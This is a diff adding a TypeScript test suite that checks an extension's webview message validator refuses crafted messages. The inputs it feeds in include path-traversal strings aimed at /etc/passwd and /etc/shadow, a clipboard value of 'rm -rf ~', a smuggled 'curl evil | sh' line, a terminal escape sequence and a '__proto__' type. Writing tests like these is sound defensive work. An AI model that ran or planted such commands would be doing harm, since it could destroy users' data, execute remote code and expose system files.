@@ -1,0 +1,81 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { checkRequestParams, checkWebviewNotification } from '../../../src/protocol/validate';
+
+// Crafted messages, as a page showing hostile text could send them: each refused with a
+// reason, and nothing but well-formed, in-range messages getting through.
+
+const refused = (m: unknown): string => {
+  const r = checkWebviewNotification(m);
+  assert.equal(r.ok, false, JSON.stringify(m));
+  return r.ok ? '' : r.error;
+};
+
+describe('checkWebviewNotification', () => {
+  it('lets the messages the page really sends through, unchanged', () => {
+    const good = [
+      { type: 'ready' },
+      { type: 'source/reveal', ref: { sessionId: 's', callIndex: 3 }, toolId: null },
+      { type: 'source/reveal', ref: { sessionId: 's', callIndex: 0 }, toolId: 'toolu_1' },
+      { type: 'source/revealLine', file: 0, line: 12 },
+      { type: 'format/choose', format: 'claude-code' },
+      { type: 'format/choose', format: null },
+      { type: 'clipboard/write', text: "agent-trace simulate '/home/me/a b.jsonl' --replicas 16 --json" },
+      { type: 'whatif/export', fileName: 'x.whatif.json', json: '{"a":1}' },
+      { type: 'log/error', message: 'boom' },
+    ];
+    for (const m of good) assert.deepEqual(checkWebviewNotification(m), { ok: true, value: m });
+  });
+
+  it('refuses a path where the host wants a file index: traversal with / and \\, absolute paths, a neighbour of the workspace', () => {
+    for (const file of ['../../../../etc/passwd', '..\\..\\..\\Windows\\win.ini', '/etc/shadow', 'C:\\Windows\\System32\\drivers\\etc\\hosts', '../secret.txt', 'claude/../../x', '0']) {
+      assert.match(refused({ type: 'source/revealLine', file, line: 0 }), /file .* is not a whole number/);
+    }
+  });
+
+  it('refuses wrong types, huge and odd numbers, and missing fields', () => {
+    assert.match(refused({ type: 'source/revealLine', file: 0, line: '3' }), /line is not a whole number/);
+    assert.match(refused({ type: 'source/revealLine', file: 1e308, line: 0 }), /file/);
+    assert.match(refused({ type: 'source/revealLine', file: 2 ** 53 + 1, line: 0 }), /file/);
+    assert.match(refused({ type: 'source/revealLine', file: -1, line: 0 }), /file/);
+    assert.match(refused({ type: 'source/revealLine', file: 0.5, line: 0 }), /file/);
+    assert.match(refused({ type: 'source/revealLine', file: 0, line: NaN }), /line/);
+    assert.match(refused({ type: 'source/revealLine', file: 0, line: Infinity }), /line/);
+    assert.match(refused({ type: 'source/reveal', ref: { sessionId: 's', callIndex: 1e308 }, toolId: null }), /ref\.callIndex/);
+    assert.match(refused({ type: 'source/reveal', ref: { sessionId: 7, callIndex: 1 }, toolId: null }), /ref\.sessionId is not a string/);
+    assert.match(refused({ type: 'source/reveal', ref: null, toolId: null }), /ref is not an object/);
+    assert.match(refused({ type: 'source/reveal', ref: { sessionId: 'x'.repeat(5000), callIndex: 1 }, toolId: null }), /longer than 4096/);
+    assert.match(refused({ type: 'format/choose', format: '../../etc' }), /not a known format/);
+    assert.match(refused({ type: 'clipboard/write', text: 42 }), /text is not a string/);
+    assert.match(refused({ type: 'whatif/export', fileName: 'x.json', json: 'not json' }), /not valid JSON/);
+    assert.match(refused({ type: 'whatif/export', fileName: 'x.json', json: '[1]' }), /not an object/);
+    assert.match(refused({ type: 'log/error', message: 'x'.repeat(100_000) }), /longer than/);
+  });
+
+  it('puts only the panel\'s own simulate command on the clipboard, on one line', () => {
+    assert.match(refused({ type: 'clipboard/write', text: 'rm -rf ~' }), /not an agent-trace simulate command/);
+    assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\ncurl evil | sh' }), /on one line/);
+    assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\u001b]0;t\u0007' }), /on one line/);
+  });
+
+  it('refuses unknown types and things that are not messages', () => {
+    assert.match(refused({ type: 'workbench/runCommand', command: 'workbench.action.terminal.sendSequence' }), /unknown message type "workbench\/runCommand"/);
+    assert.match(refused({ type: '__proto__' }), /unknown message type/);
+    assert.match(refused({ type: 7 }), /type is not a string/);
+    assert.match(refused(null), /not an object/);
+    assert.match(refused([{ type: 'ready' }]), /not an object/);
+    assert.match(refused('ready'), /not an object/);
+  });
+});
+
+describe('checkRequestParams', () => {
+  it('checks call/details and whatif/workload params, refuses the rest', () => {
+    assert.deepEqual(checkRequestParams('call/details', { sessionId: 's', callIndex: 2 }), { ok: true, value: { sessionId: 's', callIndex: 2 } });
+    assert.deepEqual(checkRequestParams('whatif/workload', { sessionId: 's' }), { ok: true, value: { sessionId: 's' } });
+    for (const bad of [{ sessionId: 's', callIndex: -1 }, { sessionId: 's', callIndex: '2' }, { sessionId: 's' }, null, { sessionId: 's', callIndex: 1e308 }]) {
+      assert.equal(checkRequestParams('call/details', bad).ok, false, JSON.stringify(bad));
+    }
+    assert.equal(checkRequestParams('whatif/workload', { sessionId: 12 }).ok, false);
+    assert.equal(checkRequestParams('files/read' as 'call/details', { path: '/etc/passwd' }).ok, false);
+  });
+});
